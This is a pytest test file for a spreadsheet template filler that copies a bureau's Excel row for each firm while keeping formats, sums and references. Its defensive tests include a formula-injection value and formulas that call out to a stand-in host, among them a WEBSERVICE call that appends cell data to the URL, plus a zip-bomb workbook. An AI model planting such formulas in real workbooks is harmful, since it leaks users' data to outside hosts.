"""The bureau's own workbook, filled: a row for each firm, formats and sums kept, nothing called."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from datetime import datetime
from io import BytesIO
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.pagebreak import Break
from openpyxl.worksheet.table import Table

from survey.files import templates
from survey.files.inside import Verdict
from survey.files.uploads import BadUpload

FIELDS = ["序号", "企业名称", "营业收入", "提交日期"]
ONCE = {"区县": "虚构区", "日期": {"day": "2026-11-26"}, "家数": 3}
ROWS = [
    [1, "=1+1", 120.5, {"day": "2026-01-31"}],
    [2, "{{区县}}厂", None, None],
    [3, "丙厂（虚构）", 7, {"day": "2026-02-01"}],
]


def made(*, more: Callable[[Any], None] = lambda _page: None) -> bytes:
    """A template as an office has it: a title, heads, the row, a sum and a signature below."""
    book = Workbook()
    page = book.active
    page.merge_cells("A1:E1")
    page["A1"] = "{{区县}}企业一览（截至 {{日期}}）"
    for at, head in enumerate(["序号", "企业", "收入", "提交", "一成"], start=1):
        page.cell(2, at, head)
    for at, value in enumerate([*(f"{{{{{name}}}}}" for name in FIELDS), "=C3/10"], start=1):
        page.cell(3, at, value).font = Font(bold=True, color="FF0000")
    page.row_dimensions[3].height = 33
    page["B4"], page["C4"] = "合计", "=SUM(C3:C3)"
    page.merge_cells("A6:C6")
    page["A6"] = "填表人：           共 {{家数}} 家"
    page.row_dimensions[6].height = 44
    page.print_area = "A1:E6"
    other = book.create_sheet("另一张")
    other["A1"] = f"={page.title}!C4"
    more(page)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def changed(content: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The same workbook with other words in one of its parts."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as was, zipfile.ZipFile(out, "w") as packed:
        for name in was.namelist():
            said = was.read(name)
            packed.writestr(name, said.replace(old, new) if name == part else said)
    return out.getvalue()


def filled(content: bytes, rows: list[list[Any]] = ROWS) -> Any:
    return load_workbook(BytesIO(templates.filled(content, "表.xlsx", FIELDS, rows, ONCE)))


def test_the_row_is_repeated_with_its_look_and_what_stands_below_moves_down():
    page = filled(made()).worksheets[0]

    assert page["A1"].value == "虚构区企业一览（截至 2026-11-26）"
    assert [page.cell(row, 1).value for row in (3, 4, 5)] == [1, 2, 3]
    assert page["C3"].value == 120.5
    assert page["D3"].value == datetime(2026, 1, 31)  # noqa: DTZ001
    assert page["D3"].number_format == "yyyy-mm-dd"
    assert page["C4"].value is None
    assert {page.cell(row, 2).font.color.rgb for row in (3, 4, 5)} == {"00FF0000"}
    assert [page.row_dimensions[row].height for row in (3, 5, 8)] == [33, 33, 44]
    assert page["B6"].value == "合计"
    assert page["A8"].value == "填表人：           共 3 家"
    assert {str(one) for one in page.merged_cells.ranges} == {"A1:E1", "A8:C8"}
    assert page.print_area == "'Sheet'!$A$1:$E$8"


def test_sums_reach_over_all_copies_and_each_row_counts_for_itself():
    book = filled(made())
    page = book.worksheets[0]

    assert page["C6"].value == "=SUM(C3:C5)"
    assert [page.cell(row, 5).value for row in (3, 4, 5)] == ["=C3/10", "=C4/10", "=C5/10"]
    assert book["另一张"]["A1"].value == "=Sheet!C6"


def test_what_a_firm_is_called_is_neither_a_formula_nor_a_field():
    page = filled(made()).worksheets[0]

    assert (page["B3"].value, page["B3"].data_type) == ("=1+1", "s")
    assert page["B4"].value == "{{区县}}厂"


def test_a_list_of_no_firm_leaves_an_empty_row():
    page = filled(made(), []).worksheets[0]

    assert [page.cell(3, at).value for at in (1, 2, 3, 4)] == [None] * 4
    assert page["B4"].value == "合计"


def test_a_choice_that_belongs_to_the_row_belongs_to_every_copy():
    def choice(page: Any) -> None:
        rule = DataValidation(type="list", formula1='"甲,乙"')
        rule.add("D3")
        page.add_data_validation(rule)

    [rule] = filled(made(more=choice)).worksheets[0].data_validations.dataValidation

    assert str(rule.sqref) == "D3:D5"


def pointing(page: Any) -> None:
    """A formula for a range, a link, a break, choices and colours that rest on cells below the row."""
    page["C5"] = ArrayFormula("C5", "=SUM(C3:C3*2)")
    page["F3"] = ArrayFormula("F3", "=SUM(C3*{1,2})")
    page["A7"] = "详见"
    page["A7"].hyperlink = "https://example.com/"
    page["G9"], page["G10"] = "甲", "乙"
    page["H1"] = "=SUM(DATA2025)+SUM(T9[收入])"
    rule = DataValidation(type="list", formula1="$G$9:$G$10")
    rule.add("B3")
    page.add_data_validation(rule)
    page.conditional_formatting.add("C3:C3", FormulaRule(formula=["$C3>$C$4"]))
    page.conditional_formatting.add("C4:C4", FormulaRule(formula=["C4>100"]))
    page.row_breaks.append(Break(id=6))


def test_what_points_below_the_row_points_to_the_same_cells_afterwards() -> None:
    page = filled(made(more=pointing)).worksheets[0]

    assert (page["C7"].value.ref, page["C7"].value.text) == ("C7", "=SUM(C3:C5*2)")
    assert [page.cell(row, 6).value.text for row in (3, 4, 5)] == [
        f"=SUM(C{row}*{{1,2}})" for row in (3, 4, 5)
    ]
    assert (page["A9"].hyperlink.ref, page["A7"].hyperlink) == ("A9", None)
    assert page["H1"].value == "=SUM(DATA2025)+SUM(T9[收入])"  # names, not cells
    [choice] = page.data_validations.dataValidation
    assert (str(choice.sqref), choice.formula1) == ("B3:B5", "$G$11:$G$12")
    rules = page.conditional_formatting._cf_rules.items()
    assert {str(known.sqref): rule[0].formula for known, rule in rules} == {
        "C3:C5": ["$C3>$C$6"], "C6": ["C6>100"],
    }  # fmt: skip
    assert [mark.id for mark in page.row_breaks.brk] == [8]


def test_a_table_reaches_over_the_copies_and_its_columns_are_called_as_its_head_says() -> None:
    def table(page: Any) -> None:
        page["C2"] = "{{区县}}收入"
        page.add_table(Table(displayName="表1", ref="A2:E3"))

    [found] = filled(made(more=table)).worksheets[0].tables.values()

    assert (found.ref, found.autoFilter.ref) == ("A2:E5", "A2:E5")
    assert [column.name for column in found.tableColumns][1:3] == ["企业", "虚构区收入"]


def test_names_in_page_headers_and_footers_are_filled_or_named_as_unknown() -> None:
    def margins(page: Any) -> None:
        page.oddHeader.center.text = "{{区县}}名单"
        page.oddFooter.right.text = "{{日期}} 第 &P 页"

    page = filled(made(more=margins), ROWS).worksheets[0]
    assert (page.oddHeader.center.text, page.oddFooter.right.text) == (
        "虚构区名单", "2026-11-26 第 &P 页",
    )  # fmt: skip

    def of_a_firm(page: Any) -> None:
        page.oddFooter.left.text = "{{企业名称}}"

    found = templates.held(made(more=of_a_firm), "表.xlsx", FIELDS, list(ONCE))
    assert found.unknown == ("企业名称",)


def test_what_will_be_lost_and_what_is_unknown_is_told_before():
    def chart(page: Any) -> None:
        page.add_chart(BarChart(), "H2")
        page["F3"] = "{{企业名}}"
        page["A9"] = "{{企业名称}}"

    content = changed(made(more=chart), "xl/workbook.xml", b"$A$1:$E$6", b"$A:$E")
    found = templates.held(content, "表.xlsx", FIELDS, list(ONCE))

    assert found.lost == ("charts", "areas")
    assert found.unknown == ("企业名",)
    assert found.rows == (("Sheet", 3), ("Sheet", 9))


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://x.example/"&B3)', '=hyperlink ("http://x.example")', "=CALL(1)"],
)
def test_a_formula_that_reaches_outside_is_refused(formula):
    def reach(page: Any) -> None:
        page["G1"] = formula

    with pytest.raises(BadUpload) as refused:
        templates.held(made(more=reach), "表.xlsx", FIELDS, list(ONCE))

    assert refused.value.fault == Verdict.REACHES_OUT


def test_a_workbook_that_unpacks_to_too_much_is_refused():
    out = BytesIO(made())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/big.xml", b"0" * 400_000_000)

    with pytest.raises(BadUpload) as refused:
        templates.held(out.getvalue(), "表.xlsx", FIELDS, list(ONCE))

    assert refused.value.fault == Verdict.UNPACKS
